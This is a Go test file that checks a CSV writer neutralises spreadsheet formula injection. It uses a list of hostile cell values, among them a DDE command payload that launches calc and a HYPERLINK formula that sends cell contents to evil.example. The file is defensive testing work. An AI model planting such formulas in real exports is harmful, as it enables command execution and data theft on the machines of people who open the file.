package sheet_test

import (
	"encoding/csv"
	"strings"
	"testing"
	"unicode"

	"github.com/google/go-cmp/cmp"

	"github.com/keyfold/keyfold/internal/sheet"
)

// hostile is what somebody may have typed as a name.
var hostile = []string{
	`=1+1`, `+1`, `-1`, `@SUM(A1)`, "\t=1", "\r=1", "\n=1", ` =1`, `"=1`, `""=1`, `x,=1`, `x;=1`, `x; =1`, `x";=1`, `x;"=1`, `x|=1`, "x\t=1", "x\n=1",
	`=cmd|' /C calc'!A0`, `=HYPERLINK("http://evil.example?"&A1,"Click")`, "\u200b=1", "\ufeff=1", "\u00a0=1", "＝1", "＋1", "\x00=1", "\u202e=1",
	`a,b`, `Veldkamp "Media" B.V.`, "", `'=1`, "=\xff", `;;=1`, `x,"",=1`, `x;;"";-1`,
}

func TestNoCellCanBeRun(t *testing.T) {
	for _, cell := range hostile {
		line(t, cell, "2026-03-01T09:00:00Z", cell)
	}
}

func FuzzNoCellCanBeRun(f *testing.F) {
	for _, cell := range hostile {
		f.Add(cell, cell)
	}
	f.Fuzz(func(t *testing.T, a, b string) { line(t, a, b) })
}

// line writes cells, and reads them as programs do: by the rules, and by all the
// separators that a program may take for ours, with quotes and without.
func line(t *testing.T, cells ...string) {
	t.Helper()
	written := sheet.Line(cells...)
	r := csv.NewReader(strings.NewReader(written))
	r.FieldsPerRecord = len(cells)
	read, err := r.ReadAll()
	if err != nil || len(read) != 1 || !strings.HasSuffix(written, "\r\n") {
		t.Fatalf("%q is read as %q, %v", written, read, err)
	}
	var want []string
	for _, cell := range cells {
		want = append(want, sheet.Harmless(cell))
	}
	if diff := cmp.Diff(want, read[0]); diff != "" {
		t.Errorf("%q comes back as another (-written +read):\n%s", cells, diff)
	}
	for _, separator := range []string{",", ";", "\t", "|"} {
		for cell := range strings.SplitSeq(strings.TrimSpace(written), separator) {
			if runs(cell) {
				t.Errorf("%q, split at %q, has the cell %q", written, separator, cell)
			}
		}
	}
	for _, cell := range read[0] {
		if runs(cell) || strings.ContainsAny(cell, "\t\r\n") {
			t.Errorf("%q is read as %q", written, cell)
		}
	}
}

// runs reports whether a spreadsheet may take a cell for a formula.
func runs(cell string) bool {
	cell = strings.TrimLeftFunc(cell, func(r rune) bool { return r == '"' || unicode.IsSpace(r) || unicode.Is(unicode.C, r) })
	return cell != "" && strings.ContainsRune("=+-@＝＋－＠", []rune(cell)[0])
}

func TestAnHonestCellStaysAsItIs(t *testing.T) {
	for _, cell := range []string{"Veldkamp Media B.V.", `Müller & Söhne "GmbH"`, "2001:db8::1", "2026-03-01T09:00:00+01:00", "a=b", "New user: Jo-Anne. Role: Admin"} {
		if got := sheet.Harmless(cell); got != cell {
			t.Errorf("%q is written as %q", cell, got)
		}
	}
}
